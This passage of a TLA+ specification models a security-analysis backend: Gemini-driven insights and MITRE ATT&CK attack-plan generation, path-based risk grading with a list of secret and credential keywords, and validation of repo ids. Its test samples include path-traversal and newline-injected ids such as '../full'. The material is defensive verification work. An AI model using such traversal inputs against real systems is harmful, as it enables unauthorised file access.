           [] transport.kind = "connect" ->
                ErrorResult({"exception"}, "HTTP error occurred: ConnectError")
           [] transport.kind = "not_json" ->
                ErrorResult({"exception"}, "Failed to parse Gemini API response as JSON")
           [] transport.kind = "other" ->
                ErrorResult({"exception"}, "Unexpected error calling Gemini API: OSError")
           [] OTHER ->
                LET text_output == ExtractText(transport.body)
                IN IF text_output.t = "raise"
                   THEN ErrorResult({"exception"},
                                    "Unexpected error calling Gemini API: " \o text_output.s)
                   ELSE IF text_output.t = "absent"
                   THEN ErrorResult({"raw_response"},
                                    "Gemini response did not contain expected text output")
                   ELSE ServiceResult(FALSE, "", TRUE, {"text", "model", "candidates"},
                                      text_output, "")

----------------------------------------------------------------------------
(* routers/ai: query_gemini, POST /api/gemini *)

\* the GeminiSuccessResponse returned (status 200), or the HTTPException raised
HttpSuccess(response_text) ==
    [status_code |-> 200, success |-> TRUE, response |-> response_text, error |-> ""]
HttpError(error_msg) ==
    [status_code |-> 500, success |-> FALSE, response |-> "", error |-> error_msg]

\* a faulty test that never sees the error key
HasErrorKeyUnseen(result) == FALSE

\* "error" in result
HasErrorKey(result) == "error" \in result.keys

\* query_gemini, given what the call of generate_gemini_response in the
\* threadpool returned or raised; a text that is no str fails the validation of
\* GeminiSuccessResponse, and pydantic's ValidationError is a ValueError
query_gemini(result) ==
    LET response_text == GetOr(result.text, JStr(""))
    IN IF result.raised
       THEN (IF result.exc = "ValueError" THEN HttpError("Gemini API configuration error")
             ELSE HttpError("Unexpected error processing Gemini request"))
       ELSE IF HasErrorKey(result) THEN HttpError(result.error)
       ELSE IF response_text.t # "str" THEN HttpError("Gemini API configuration error")
       ELSE HttpSuccess(response_text.s)

\* what the threadpool call gives: the exception of the threadpool itself, or
\* the outcome of generate_gemini_response
ThreadpoolResult(fault, transport) ==
    IF fault # "" THEN ServiceResult(TRUE, fault, FALSE, {}, JAbsent, "")
    ELSE generate_gemini_response(transport)

----------------------------------------------------------------------------
(* utils/storage: list_simulations *)

\* a file <run_id>.json of the simulations directory and the run it holds
\* (run_id is repo_id, "_" and a stamp); content is "run" for a file that holds
\* a SimulationRun, "unreadable" for one that cannot be opened, "not_json" for
\* text that is no JSON, "not_object" for JSON that is no object, and
\* "invalid" for an object that is no SimulationRun
StoredRun(repo_id, stamp, timestamp, content) ==
    [name |-> repo_id \o "_" \o stamp \o ".json", repo_id |-> repo_id,
     run_id |-> repo_id \o "_" \o stamp, timestamp |-> timestamp, content |-> content]

\* the exception that reading the file and building SimulationRun(**raw_data)
\* raises, "" when there is none: _load_raw_json turns OSError and
\* JSONDecodeError into SimulationDataError, ValidationError is turned into
\* SimulationDataError, and the TypeError of ** on a value that is no mapping
\* is not caught
ReadError(file) ==
    CASE file.content = "run" -> ""
      [] file.content = "not_object" -> "TypeError"
      [] OTHER -> "SimulationDataError"

\* the file name matches the glob pattern f"{repo_id}_*.json"
GlobMatches(name, repo_id) ==
    /\ Len(name) >= Len(repo_id) + Len("_.json")
    /\ StartsWith(name, repo_id \o "_") /\ EndsWith(name, ".json")

RECURSIVE SortedSummaries(_)
\* the summaries of the runs, newest first
SortedSummaries(runs) ==
    IF runs = {} THEN <<>>
    ELSE LET newest == CHOOSE r \in runs : \A q \in runs : q.timestamp <= r.timestamp
         IN <<[repo_id |-> newest.repo_id, run_id |-> newest.run_id,
               timestamp |-> newest.timestamp]>> \o SortedSummaries(runs \ {newest})

\* the possible outcomes of list_simulations: the glob yields the files in an
\* order the file system decides, and the first file that cannot be read ends
\* the call
list_simulations(directory, repo_id) ==
    LET matched == {f \in directory : GlobMatches(f.name, repo_id)}
    IN IF \E f \in matched : ReadError(f) # ""
       THEN {[raised |-> TRUE, exc |-> ReadError(f), summaries |-> <<>>] :
                f \in {g \in matched : ReadError(g) # ""}}
       ELSE {[raised |-> FALSE, exc |-> "", summaries |-> SortedSummaries(matched)]}

\* the SimulationRun of a file, as the fields the callers read
RunOfFile(file) ==
    [raised |-> FALSE, exc |-> "", repo_id |-> file.repo_id, run_id |-> file.run_id,
     timestamp |-> file.timestamp]
RunError(exc) == [raised |-> TRUE, exc |-> exc, repo_id |-> "", run_id |-> "", timestamp |-> 0]

load_simulation(directory, repo_id, run_id) ==
    LET found == {f \in directory : f.name = run_id \o ".json"}
        file == CHOOSE f \in found : TRUE
    IN IF found = {} THEN RunError("SimulationNotFoundError")
       ELSE IF ReadError(file) # "" THEN RunError(ReadError(file))
       ELSE IF file.repo_id # repo_id THEN RunError("SimulationNotFoundError")
       ELSE RunOfFile(file)

----------------------------------------------------------------------------
(* Sampled arguments of the direct calls *)

\* response bodies: the expected structure with several values of text, and
\* the structure broken at each level
BodySamples ==
    LET Texts == {JStr("ok"), JStr(""), JInt(5), JNull, JList(<<>>)}
        Part == {JDict(<<JEntry("text", t)>>) : t \in Texts}
                   \cup {JDict(<<>>), JStr("text"), JNull}
        Parts == {JList(<<q>>) : q \in Part} \cup {JList(<<>>), JNull, JStr("text"), JDict(<<>>)}
        Content == {JDict(<<JEntry("parts", q)>>) : q \in Parts}
                      \cup {JDict(<<>>), JStr("parts"), JNull, JList(<<JStr("parts")>>)}
        Candidate == {JDict(<<JEntry("content", c)>>) : c \in Content}
                        \cup {JDict(<<>>), JStr("content"), JNull}
        Candidates == {JList(<<c>>) : c \in Candidate}
                         \cup {JList(<<>>), JNull, JInt(3), JDict(<<>>), JStr("x")}
    IN {JDict(<<JEntry("candidates", c)>>) : c \in Candidates}
          \cup {JDict(<<JEntry("error", JStr("quota"))>>), JList(<<JStr("candidates")>>),
                JList(<<>>), JNull, JStr("candidates"), JInt(1)}

TransportSamples ==
    {Transport(k, 0, JNull) : k \in {"timeout", "connect", "not_json", "other"}}
    \cup {Transport("status", c, JNull) : c \in {400, 429, 503}}
    \cup {Transport("body", 200, b) : b \in BodySamples}

----------------------------------------------------------------------------
(* gemini_service: generate_ai_insight *)

\* a faulty fallback message that is empty
EmptyFallbackMessage == ""

_FALLBACK_MESSAGE == "Gemini unavailable"

\* a loaded SimulationRun: its ids, and what sandbox["logs"] holds ("entries" a
\* list of objects, "absent" nothing, "strings" a list of strings, "number" a number)
SimulationRun(repo_id, run_id, logs) == [repo_id |-> repo_id, run_id |-> run_id, logs |-> logs]

\* _build_insight_prompt: entry.get fails on an entry that is no object, logs[:5]
\* on a value that cannot be sliced
_build_insight_prompt(run) ==
    CASE run.logs = "strings" -> Err("AttributeError")
      [] run.logs = "number" -> Err("TypeError")
      [] OTHER -> Ok([repo_id |-> run.repo_id, run_id |-> run.run_id])

\* what generate_ai_insight comes to: the exception raised, or None, or a text;
\* called tells whether generate_content of the model was called
InsightResult(exc, none, insight, called) ==
    [raised |-> exc # "", exc |-> exc, none |-> none, insight |-> insight, called |-> called]

generate_ai_insight(run, outcome) ==
    LET built == _build_insight_prompt(run)
        invoked == _invoke_gemini(settings, outcome)
        called == outcome.api # "import_error"
    IN IF ~settings.use_gemini THEN InsightResult("", TRUE, "", FALSE)
       ELSE IF ~settings.gemini_api_key THEN InsightResult("", FALSE, _FALLBACK_MESSAGE, FALSE)
       ELSE IF ~built.ok THEN InsightResult(built.exc, FALSE, "", FALSE)
       ELSE IF ~invoked.ok
            THEN IF invoked.exc = "GeminiPlanError"
                 THEN InsightResult("", FALSE, _FALLBACK_MESSAGE, called)
                 ELSE InsightResult(invoked.exc, FALSE, "", called)
       ELSE InsightResult("", FALSE, Strip(RawText(invoked.val)), called)

----------------------------------------------------------------------------
(* routers/ai: GET /api/gemini/insight/{repo_id} *)

\* a faulty pattern test that lets every repo_id through
RepoIdUnchecked(repo_id) == TRUE

\* REPO_ID_PATTERN.fullmatch(repo_id), for ^[A-Za-z0-9_-]+$
REPO_ID_PATTERN(repo_id) ==
    /\ repo_id # ""
    /\ \A i \in 1..Len(repo_id) :
          CharAt(repo_id, i) \in UpperSet \cup LowerSet \cup DigitSet \cup {"_", "-"}

\* _build_report(latest_run) of routers/operations: the report of the run
_build_report(run) == [repo_id |-> run.repo_id, run_id |-> run.run_id]

\* what the endpoint answers: HTTP 400, or the dict it returns; accessed names
\* what the request touched (the simulations directory, the manifest, the
\* model API); listed, loaded and generated tell how far the simulation path
\* came ("": done, "skipped": not reached, else the exception raised)
InsightResponse(status_code, source, insight, run_id, accessed, listed, loaded, generated) ==
    [raised |-> status_code # 200, status_code |-> status_code, source |-> source,
     insight |-> insight, run_id |-> run_id, accessed |-> accessed,
     listed |-> listed, loaded |-> loaded, generated |-> generated]

\* the inner try of the simulation path, for one outcome of list_simulations:
\* source "simulation" is the response returned, "" the fall through to the
\* manifest path (nothing stored, a caught storage error, no insight), and
\* "error" an exception that reaches the outer handler
FromSimulation(repo_id, directory, logs, outcome, listing) ==
    LET latest == listing.summaries[1]
        latest_run == load_simulation(directory, repo_id, latest.run_id)
        report == _build_report(latest_run)
        insight == generate_ai_insight(
                       SimulationRun(latest_run.repo_id, latest_run.run_id, logs), outcome)
        Caught(exc) == exc \in {"SimulationNotFoundError", "SimulationDataError"}
        Passed(called, listed, loaded, generated) ==
            InsightResponse(200, "", JAbsent, "", {"storage"} \cup called,
                            listed, loaded, generated)
        Failed(called, listed, loaded, generated) ==
            InsightResponse(200, "error", JStr("An error occurred while generating AI insight."),
                            "", {"storage"} \cup called, listed, loaded, generated)
        called == IF insight.called THEN {"model"} ELSE {}
    IN IF listing.raised
       THEN IF Caught(listing.exc) THEN Passed({}, listing.exc, "skipped", "skipped")
            ELSE Failed({}, listing.exc, "skipped", "skipped")
       ELSE IF listing.summaries = <<>> THEN Passed({}, "", "skipped", "skipped")
       ELSE IF latest_run.raised
       THEN IF Caught(latest_run.exc) THEN Passed({}, "", latest_run.exc, "skipped")
            ELSE Failed({}, "", latest_run.exc, "skipped")
       ELSE IF insight.raised THEN Failed(called, "", "", insight.exc)
       ELSE IF insight.none \/ insight.insight = "" THEN Passed(called, "", "", "")
       ELSE InsightResponse(200, "simulation", JStr(insight.insight), latest.run_id,
                            {"storage"} \cup called, "", "", "")

\* the manifest path, after the simulation path came to passed
FromManifest(repo_id, transport, passed) ==
    LET manifest == IF repo_id \in DOMAIN disk THEN load_repo_manifest(disk, repo_id)
                    ELSE Manifest("missing", <<>>)
        high_risk_files == select_high_risk_files(manifest, 10)
        result == generate_gemini_response(transport)
        Answer(source, insight, called) ==
            InsightResponse(200, source, insight, "", passed.accessed \cup {"manifest"} \cup called,
                            passed.listed, passed.loaded, passed.generated)
        called == IF result.sent THEN {"model"} ELSE {}
    IN IF manifest.kind = "missing"
       THEN Answer("not_found",
                   JStr("Repository not analyzed yet. Please upload or analyze the repository first."),
                   {})
       ELSE IF result.raised
       THEN Answer("error", JStr("An error occurred while generating AI insight."), called)
       ELSE IF "text" \in result.keys THEN Answer("manifest", result.text, called)
       ELSE Answer("error", JStr("Unable to generate AI insight at this time."), called)

\* the possible answers of the endpoint, one for each outcome of list_simulations
get_gemini_insight_for_repo(repo_id, directory, logs, outcome, transport) ==
    IF ~REPO_ID_PATTERN(repo_id)
    THEN {InsightResponse(400, "", JAbsent, "", {}, "skipped", "skipped", "skipped")}
    ELSE IF ~settings.use_gemini \/ ~settings.gemini_api_key
    THEN {InsightResponse(200, "disabled",
                          JStr("AI insights are disabled. Set USE_GEMINI=true and configure GEMINI_API_KEY."),
                          "", {}, "skipped", "skipped", "skipped")}
    ELSE {LET simulated == FromSimulation(repo_id, directory, logs, outcome, listing)
          IN IF simulated.source = "" THEN FromManifest(repo_id, transport, simulated)
             ELSE simulated :
          listing \in list_simulations(directory, repo_id)}

----------------------------------------------------------------------------
(* Direct calls of the functions that keep no state *)

AssessRiskCalls == {[fn |-> "_assess_risk", rel_path |-> p] : p \in PathSamples}

\* manifests and limits of the sampled calls of select_high_risk_files
SelectCalls ==
    {[fn |-> "select_high_risk_files", manifest |-> DiskSample[r], limit |-> k] :
        r \in RepoIds \ {"missing"}, k \in 0..MaxLimit}

ServiceCalls == {[fn |-> "generate_gemini_response", transport |-> t] : t \in TransportSamples}

QueryCalls ==
    {[fn |-> "query_gemini", transport |-> t, fault |-> f] :
        t \in TransportSamples, f \in {"", "RuntimeError"}}

\* the files the simulations directory may hold
StoredRunSamples ==
    {StoredRun("app", "20240101T000000", 1, "run"), StoredRun("app", "20240202T000000", 2, "run"),
     StoredRun("app_v2", "20240103T000000", 3, "run"),
     StoredRun("appendix", "20240104T000000", 4, "invalid"),
     StoredRun("web", "20240105T000000", 5, "run"), StoredRun("web", "broken", 6, "not_json"),
     StoredRun("web", "list", 7, "not_object"), StoredRun("web", "locked", 8, "unreadable")}

LoadCalls ==
    {[fn |-> "load_simulation", directory |-> d, repo_id |-> r, run_id |-> f.run_id] :
        d \in SUBSET StoredRunSamples, r \in {"app", "web", "appendix"}, f \in StoredRunSamples}

ListCalls ==
    {[fn |-> "list_simulations", directory |-> d, repo_id |-> r] :
        d \in SUBSET StoredRunSamples, r \in {"app", "app_v2", "web", "api"}}

\* what the model API comes to when asked for an insight
InsightOutcomes ==
    {Outcome(a, Response("empty", JNull)) : a \in {"import_error", "api_exception"}}
    \cup {Outcome("text", Response(f, JNull)) : f \in {"prose", "padded", "blank", "empty"}}

SimulationRunSamples ==
    {SimulationRun("app", "app_20240101T000000", l) :
        l \in {"entries", "absent", "strings", "number"}}

InsightCalls ==
    {[fn |-> "generate_ai_insight", run |-> r, outcome |-> o] :
        r \in SimulationRunSamples, o \in InsightOutcomes}

\* simulations directories of the sampled requests of the insight endpoint
InsightDirectories ==
    {{},
     {StoredRun("full", "20240101T000000", 1, "run"), StoredRun("full", "20240202T000000", 2, "run")},
     {StoredRun("full", "20240101T000000", 1, "run"), StoredRun("full_v2", "20240103T000000", 3, "run")},
     {StoredRun("full", "20240101T000000", 1, "run"), StoredRun("full", "broken", 6, "not_json")},
     {StoredRun("full", "20240101T000000", 1, "run"), StoredRun("full", "list", 7, "not_object")},
     {StoredRun("full", "broken", 6, "invalid"), StoredRun("full", "list", 7, "not_object")},
     {StoredRun("missing", "20240105T000000", 5, "run")}}

InsightTransports ==
    {Transport("timeout", 0, JNull), Transport("status", 429, JNull)}
    \cup {Transport("body", 200, JDict(<<JEntry("candidates", JList(<<c>>))>>)) :
            c \in {JDict(<<JEntry("content",
                               JDict(<<JEntry("parts", JList(<<JDict(<<JEntry("text", t)>>)>>))>>))>>) :
                      t \in {JStr("ok"), JStr("")}}}

InsightRequests ==
    {[fn |-> "get_gemini_insight_for_repo", repo_id |-> r, directory |-> d, logs |-> l,
      outcome |-> o, transport |-> t] :
        r \in {"full", "small", "missing", "", "../full", "full v2", "full\n"},
        d \in InsightDirectories, l \in {"entries", "strings"},
        o \in InsightOutcomes, t \in InsightTransports}

InitCalls ==
    /\ settings \in SettingsSamples
    /\ disk = DiskSample
    /\ op = "none"
    /\ pc = "idle"
    /\ \/ request \in AssessRiskCalls
       \/ request \in SelectCalls
       \/ request \in ServiceCalls
       \/ request \in QueryCalls
       \/ request \in ListCalls
       \/ request \in LoadCalls
       \/ request \in InsightCalls
       \/ request \in InsightRequests
    /\ prompt = NoPrompt
    /\ retry_count = 0
    /\ calls = 0
    /\ parse_failed = FALSE
    /\ response = NoOutcome
    /\ ret = NoReturn
    /\ text = ""
    /\ sanitized = ""

\* what a direct call leaves alone
CallFrame == UNCHANGED <<settings, disk, request, prompt, retry_count, calls, parse_failed,
                         response, text, sanitized>>

AssessRisk ==
    /\ pc = "idle" /\ request.fn = "_assess_risk"
    /\ op' = "_assess_risk"
    /\ pc' = "done"
    /\ ret' = _assess_risk(request.rel_path)
    /\ CallFrame

SelectHighRiskFiles ==
    /\ pc = "idle" /\ request.fn = "select_high_risk_files"
    /\ op' = "select_high_risk_files"
    /\ pc' = "done"
    /\ ret' = select_high_risk_files(request.manifest, request.limit)
    /\ CallFrame

GenerateGeminiResponse ==
    /\ pc = "idle" /\ request.fn = "generate_gemini_response"
    /\ op' = "generate_gemini_response"
    /\ pc' = "done"
    /\ ret' = generate_gemini_response(request.transport)
    /\ calls' = IF ret'.sent THEN 1 ELSE 0
    /\ UNCHANGED <<settings, disk, request, prompt, retry_count, parse_failed, response,
                   text, sanitized>>

QueryGemini ==
    /\ pc = "idle" /\ request.fn = "query_gemini"
    /\ op' = "query_gemini"
    /\ pc' = "done"
    /\ ret' = query_gemini(ThreadpoolResult(request.fault, request.transport))
    /\ calls' = IF ThreadpoolResult(request.fault, request.transport).sent THEN 1 ELSE 0
    /\ UNCHANGED <<settings, disk, request, prompt, retry_count, parse_failed, response,
                   text, sanitized>>

ListSimulations ==
    /\ pc = "idle" /\ request.fn = "list_simulations"
    /\ op' = "list_simulations"
    /\ pc' = "done"
    /\ ret' \in list_simulations(request.directory, request.repo_id)
    /\ CallFrame

LoadSimulation ==
    /\ pc = "idle" /\ request.fn = "load_simulation"
    /\ op' = "load_simulation"
    /\ pc' = "done"
    /\ ret' = load_simulation(request.directory, request.repo_id, request.run_id)
    /\ CallFrame

GenerateAiInsight ==
    /\ pc = "idle" /\ request.fn = "generate_ai_insight"
    /\ op' = "generate_ai_insight"
    /\ pc' = "done"
    /\ ret' = generate_ai_insight(request.run, request.outcome)
    /\ calls' = IF ret'.called THEN 1 ELSE 0
    /\ UNCHANGED <<settings, disk, request, prompt, retry_count, parse_failed, response,
                   text, sanitized>>

GetGeminiInsightForRepo ==
    /\ pc = "idle" /\ request.fn = "get_gemini_insight_for_repo"
    /\ op' = "get_gemini_insight_for_repo"
    /\ pc' = "done"
    /\ ret' \in get_gemini_insight_for_repo(request.repo_id, request.directory, request.logs,
                                            request.outcome, request.transport)
    /\ calls' = IF "model" \in ret'.accessed THEN 1 ELSE 0
    /\ UNCHANGED <<settings, disk, request, prompt, retry_count, parse_failed, response,
                   text, sanitized>>

NextCalls ==
    \/ AssessRisk \/ SelectHighRiskFiles \/ GenerateGeminiResponse \/ QueryGemini
    \/ ListSimulations \/ LoadSimulation \/ GenerateAiInsight \/ GetGeminiInsightForRepo

SpecCalls == InitCalls /\ [][NextCalls]_vars

\* the sensitive keywords the specification lists
ListedKeywords ==
    {"secret", "credential", "token", "password", "config", "deploy", "workflow", "key"}

\* C13: a file whose repository-relative path contains a sensitive keyword, in
\* any letter case and in any component of the path, is graded high.
C13_KeywordInPathIsHigh ==
    (op = "_assess_risk" /\ pc = "done"
       /\ \E keyword \in ListedKeywords : Contains(StrLower(request.rel_path), keyword))
    => ret.risk_level = "high"

\* the high-risk rules of _assess_risk, one by one, for the path of the call
HighRiskRule ==
    LET rel == StrLower(request.rel_path)
        name == PathName(rel)
        suffix == PathSuffix(rel)
    IN \/ name \in _HIGH_RISK_FILENAMES \/ suffix \in _HIGH_RISK_SUFFIXES
       \/ \E keyword \in _SENSITIVE_KEYWORDS : Contains(name, keyword)
       \/ Contains(rel, ".github/workflows")
       \/ Contains(rel, "docker") /\ suffix \in {"", ".yml", ".yaml"}
       \/ EndsWith(rel, "/config.json") \/ EndsWith(rel, "/config.yaml")

\* C14: _assess_risk returns medium exactly for a file with suffix .sh, .ps1 or
\* .bat (in any letter case) that matches no high-risk rule, high exactly for a
\* file that matches a high-risk rule, and low for every other file; a high
\* file carries the reasons of the rules it matched, a medium file the one
\* reason "Executable script", a low file none.
C14_LevelsByRule ==
    (op = "_assess_risk" /\ pc = "done") =>
        LET script == StrLower(PathSuffix(request.rel_path)) \in {".sh", ".ps1", ".bat"}
        IN /\ ret.risk_level = "high" <=> HighRiskRule
           /\ ret.risk_level = "medium" <=> (script /\ ~HighRiskRule)
           /\ ret.risk_level = "low" <=> (~script /\ ~HighRiskRule)
           /\ ret.risk_level = "medium" => ret.risk_reasons = <<"Executable script">>
           /\ ret.risk_level = "low" <=> ret.risk_reasons = <<>>

\* C14 as stated: the level is high exactly when the returned list of risk
\* reasons is non-empty.
C14_HighIffReasons ==
    (op = "_assess_risk" /\ pc = "done") =>
        (ret.risk_level = "high" <=> ret.risk_reasons # <<>>)

\* a script in upper case under an unflagged directory was graded medium
C14_Witness ==
    /\ op = "_assess_risk" /\ pc = "done"
    /\ request.rel_path = "src/RUN.SH" /\ ret.risk_level = "medium"

\* select_high_risk_files has returned
SelectDone == op = "select_high_risk_files" /\ pc = "done"

C16_PromptBounded ==
    ~prompt.none =>
        /\ Len(prompt.file_list) <= 10
        /\ Len(prompt.primary_languages) <= 5
        /\ Len(prompt.key_dependencies) <= 10
        /\ op = "generate_attack_plan" =>
              \A i \in 1..Len(prompt.file_list) : prompt.file_list[i] \in ManifestPaths
        /\ op = "generate_gemini_attack_plan" =>
              LET profile == request.repo_profile
              IN /\ \A i \in 1..Len(prompt.file_list) :
                       \E j \in 1..Min(10, Len(profile.high_risk_files)) :
                          profile.high_risk_files[j].path = prompt.file_list[i]
                 /\ prompt.primary_languages = SubSeq(profile.languages, 1, Min(5, Len(profile.languages)))
                 /\ prompt.key_dependencies =
                       SubSeq(profile.dependencies, 1, Min(10, Len(profile.dependencies)))

\* a profile with more than 10 files, 5 languages and 10 dependencies gave a
\* prompt with 10, 5 and 10 of them
C16_Witness ==
    /\ op = "generate_gemini_attack_plan" /\ pc = "loop"
    /\ Len(request.repo_profile.high_risk_files) > 10
    /\ Len(request.repo_profile.languages) > 5
    /\ Len(request.repo_profile.dependencies) > 10
    /\ Len(prompt.file_list) = 10
    /\ Len(prompt.primary_languages) = 5
    /\ Len(prompt.key_dependencies) = 10

\* T followed by digits, optionally a dot and sub-technique digits
IsMitreId(s) ==
    /\ StartsWith(s, "T")
    /\ LET rest == SubSeq(s, 2, Len(s))
           dot == RFind(rest, ".")
       IN IF dot = 0 THEN rest # "" /\ \A i \in 1..Len(rest) : IsDigit(CharAt(rest, i))
          ELSE /\ 1 < dot /\ dot < Len(rest)
               /\ \A i \in (1..Len(rest)) \ {dot} : IsDigit(CharAt(rest, i))

\* C17: in every plan derived from the model each step's technique_id is of the
\* MITRE ATT&CK form or is the sentinel (T0000 for generate_attack_plan, N/A for
\* generate_gemini_attack_plan).
C17_TechniqueIdsWellFormed ==
    /\ (SdkDone /\ ~ret.raised /\ ret.source = "gemini") =>
          \A st \in StepsOf(ret.plan) :
             IsMitreId(st.technique_id) \/ st.technique_id = "T0000"
    /\ (RestDone /\ ret.source = "gemini") =>
          \A st \in StepsOf(ret.plan) :
             IsMitreId(st.technique_id) \/ st.technique_id = "N/A"

QueryFailed ==
    \/ ~settings.gemini_api_key
    \/ request.fault # ""
    \/ "error" \in generate_gemini_response(request.transport).keys

\* C19: query_gemini returns a success body (success true, with the model's
\* text) only when generate_gemini_response returned without the key error;
\* when the call failed it raises HTTP 500 whose detail has success false and
\* an error message.
C19_SuccessOnlyWithoutError ==
    (op = "query_gemini" /\ pc = "done") =>
        /\ ret.status_code \in {200, 500}
        /\ ret.status_code = 200 =>
              /\ ~QueryFailed /\ ret.success
              /\ JStr(ret.response) = generate_gemini_response(request.transport).text
        /\ ret.status_code = 500 => ~ret.success /\ ret.error # ""
        /\ QueryFailed => ret.status_code = 500

\* the model API answered 200 with a quota message and no candidates: the
\* error result became HTTP 500
C19_Witness ==
    /\ op = "query_gemini" /\ pc = "done" /\ settings.gemini_api_key
    /\ request.fault = "" /\ request.transport.kind = "body"
    /\ request.transport.body = JDict(<<JEntry("error", JStr("quota"))>>)
    /\ ret.status_code = 500
    /\ ret.error = "Gemini response did not contain expected text output"

\* C20: every summary list_simulations(repo_id) returns has the repo_id it was
\* asked for, whatever runs are stored.
C20_SummariesOfRepo ==
    (op = "list_simulations" /\ pc = "done" /\ ~ret.raised) =>
        \A i \in 1..Len(ret.summaries) : ret.summaries[i].repo_id = request.repo_id

\* the file load_simulation looks for, when the directory has it
AskedFiles == {f \in request.directory : f.name = request.run_id \o ".json"}

\* C21 as stated: load_simulation returns a run only of the requested
\* repository; a missing file or a run of another repository raises
\* SimulationNotFoundError, and a file that cannot be read or that holds no
\* valid SimulationRun raises SimulationDataError.
C21_LoadChecked ==
    (op = "load_simulation" /\ pc = "done") =>
        /\ ~ret.raised => ret.repo_id = request.repo_id /\ ret.run_id = request.run_id
        /\ AskedFiles = {} => ret.raised /\ ret.exc = "SimulationNotFoundError"
        /\ \A f \in AskedFiles :
              /\ f.content # "run" => ret.raised /\ ret.exc = "SimulationDataError"
              /\ (f.content = "run" /\ f.repo_id # request.repo_id) =>
                     ret.raised /\ ret.exc = "SimulationNotFoundError"
              /\ (f.content = "run" /\ f.repo_id = request.repo_id) => ~ret.raised

C26_StepNumbersInOrder ==
    (pc = "done" /\ op \in {"generate_attack_plan", "generate_gemini_attack_plan"} /\ ~ret.raised)
        => \A i \in 1..Len(ret.plan.steps) : ret.plan.steps[i].step_number = i

\* generate_ai_insight has returned or raised
InsightDone == op = "generate_ai_insight" /\ pc = "done"

InsightAnswered == op = "get_gemini_insight_for_repo" /\ pc = "done"

\* the sampled repo ids that match ^[A-Za-z0-9_-]+$
MatchingRepoIds == {"full", "small", "missing"}

\* the request passed the validation and the settings test
InsightAttempted ==
    /\ InsightAnswered /\ request.repo_id \in MatchingRepoIds
    /\ settings.use_gemini /\ settings.gemini_api_key

\* the conditions under which the manifest path is taken: nothing stored for
\* the repository, a storage error of the two caught kinds while listing or
\* loading, or a run loaded and generate_ai_insight returned an empty value
ManifestPathDue ==
    LET insight == generate_ai_insight(SimulationRun(request.repo_id, "", request.logs),
                                       request.outcome)
        storage_errors == {"SimulationNotFoundError", "SimulationDataError"}
    IN \/ {f \in request.directory : GlobMatches(f.name, request.repo_id)} = {}
       \/ ret.listed \in storage_errors
       \/ ret.loaded \in storage_errors
       \/ ret.loaded = "" /\ ~insight.raised /\ (insight.none \/ insight.insight = "")

\* C23, as stated: the manifest path is taken exactly when there is no stored
\* run, listing or loading raises SimulationNotFoundError or SimulationDataError,
\* or generate_ai_insight returns an empty value; whenever a run loads, the
\* response has source "simulation".
C23_LoadedIsSimulation ==
    InsightAttempted =>
        /\ ("manifest" \in ret.accessed) <=> ManifestPathDue
        /\ ret.loaded = "" => ret.source = "simulation"

\* C23, amended: the manifest path is taken exactly under those conditions;
\* whenever a run loads and generate_ai_insight returns, the response has source
\* "simulation" and the id of the newest listed run, with the insight "Gemini
\* unavailable" if the model call failed; when a run loads and generate_ai_insight
\* raises, the response has source "error" and the manifest is not read.
C23_SimulationFirst ==
    InsightAttempted =>
        /\ ("manifest" \in ret.accessed) <=> ManifestPathDue
        /\ (ret.loaded = "" /\ ret.generated = "") =>
              /\ ret.source = "simulation"
              /\ \E f \in request.directory :
                    /\ f.run_id = ret.run_id /\ f.repo_id = request.repo_id
                    /\ \A g \in request.directory :
                          GlobMatches(g.name, request.repo_id) => g.timestamp <= f.timestamp
              /\ request.outcome.api # "text" => ret.insight = JStr("Gemini unavailable")
        /\ (ret.loaded = "" /\ ret.generated # "") =>
              (ret.source = "error" /\ "manifest" \notin ret.accessed)

\* a run loaded, the model call failed, and the answer is the fallback message
\* with source "simulation"
C23_Witness ==
    /\ InsightAttempted /\ request.outcome.api = "api_exception"
    /\ ret.source = "simulation" /\ ret.insight = JStr("Gemini unavailable")
    /\ ret.run_id = "full_20240202T000000" /\ "manifest" \notin ret.accessed

\* C24: a repo_id that does not match ^[A-Za-z0-9_-]+$ is answered with HTTP 400
\* and no access to the storage, the manifest or the model; with Gemini disabled
\* or no API key the answer has source "disabled", again without access; in
\* every other case the endpoint returns a dict whose source is simulation,
\* manifest, not_found or error, and never raises.
C24_ValidatesFirst ==
    InsightAnswered =>
        /\ request.repo_id \notin MatchingRepoIds =>
              (ret.raised /\ ret.status_code = 400 /\ ret.accessed = {} /\ calls = 0)
        /\ (request.repo_id \in MatchingRepoIds
              /\ (~settings.use_gemini \/ ~settings.gemini_api_key)) =>
              (~ret.raised /\ ret.source = "disabled" /\ ret.accessed = {} /\ calls = 0)
        /\ (request.repo_id \in MatchingRepoIds
              /\ settings.use_gemini /\ settings.gemini_api_key) =>
              (~ret.raised /\ ret.source \in {"simulation", "manifest", "not_found", "error"})

\* a repo_id with a trailing newline, Gemini ready and runs stored: HTTP 400
C24_Witness ==
    /\ InsightAnswered /\ request.repo_id = "full\n" /\ request.directory # {}
    /\ settings.use_gemini /\ settings.gemini_api_key
    /\ ret.status_code = 400 /\ ret.accessed = {}

====
